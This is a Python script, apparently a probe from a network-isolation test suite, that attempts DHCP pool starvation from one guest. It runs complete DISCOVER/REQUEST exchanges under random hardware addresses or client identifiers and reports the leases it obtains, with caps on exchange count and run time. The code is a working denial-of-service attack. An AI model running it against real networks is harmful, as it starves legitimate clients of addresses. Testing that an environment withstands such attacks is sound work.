"""Tries to take the whole DHCP pool from one guest (issue 11, item 2): complete DISCOVER / OFFER /
REQUEST / ACK exchanges, each as a new client, all from this guest's own Ethernet source: with
--vary chaddr a new random chaddr (and client identifier) each, with --vary client-id this guest's
own chaddr under a new random client identifier each. Bounded by --exchanges and --seconds; each reply is awaited --reply-timeout
seconds at most. Replies are asked for by broadcast (flag set), so they reach us whatever chaddr.

  ip netns exec NS /usr/bin/python3 dhcp_starve.py --iface eth0 --exchanges 300 --seconds 20 [--vary chaddr|client-id]
Prints {"attempted", "offers", "acks", "naks", "addresses": [acked addresses], "seconds"}.
"""

import argparse
import time

from hostile_link import Link, dhcp_frame, new_identity, new_rng, option, print_result


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--iface", default="eth0")
    parser.add_argument("--exchanges", type=int, default=300)
    parser.add_argument("--seconds", type=float, default=20.0)
    parser.add_argument("--reply-timeout", type=float, default=0.25)
    parser.add_argument("--vary", choices=["chaddr", "client-id"], default="chaddr")
    args = parser.parse_args()

    link = Link(args.iface)
    rng = new_rng()
    started = time.monotonic()
    deadline = started + min(args.seconds, 120.0)
    attempted = offers = acks = naks = 0
    addresses = []
    for _ in range(max(0, min(args.exchanges, 5000))):
        if time.monotonic() >= deadline:
            break
        attempted += 1
        chaddr, client_id = new_identity(link, rng, args.vary)
        xid = rng.getrandbits(32)
        link.send(dhcp_frame(link.mac, chaddr, xid, "discover", [("client_id", client_id), ("param_req_list", [1, 3, 6])]))
        kind, offer = link.wait_reply(xid, {"offer"}, args.reply_timeout)
        if offer is None:
            continue
        offers += 1
        offered = offer.yiaddr
        server = option(offer, "server_id") or offer["IP"].src
        link.send(dhcp_frame(link.mac, chaddr, xid, "request",
                             [("client_id", client_id), ("requested_addr", offered), ("server_id", server)]))
        kind, reply = link.wait_reply(xid, {"ack", "nak"}, args.reply_timeout)
        if kind == "ack":
            acks += 1
            addresses.append(reply.yiaddr)
        elif kind == "nak":
            naks += 1
    link.close()
    print_result({"vary": args.vary, "attempted": attempted, "offers": offers, "acks": acks, "naks": naks,
                  "addresses": addresses, "seconds": round(time.monotonic() - started, 2)})


if __name__ == "__main__":
    main()
